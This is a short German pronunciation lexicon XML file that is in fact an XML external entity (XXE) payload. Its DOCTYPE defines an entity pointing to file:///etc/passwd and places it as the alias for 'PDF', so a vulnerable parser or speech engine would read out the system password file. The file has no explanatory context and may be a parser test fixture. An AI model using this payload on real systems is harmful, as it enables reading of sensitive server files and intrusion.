<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE lexicon [
  <!ENTITY datei SYSTEM "file:///etc/passwd">
]>
<lexicon version="1.0" xmlns="http://www.w3.org/2005/01/pronunciation-lexicon" alphabet="ipa" xml:lang="de">
  <lexeme><grapheme>PDF</grapheme><alias>&datei;</alias></lexeme>
</lexicon>
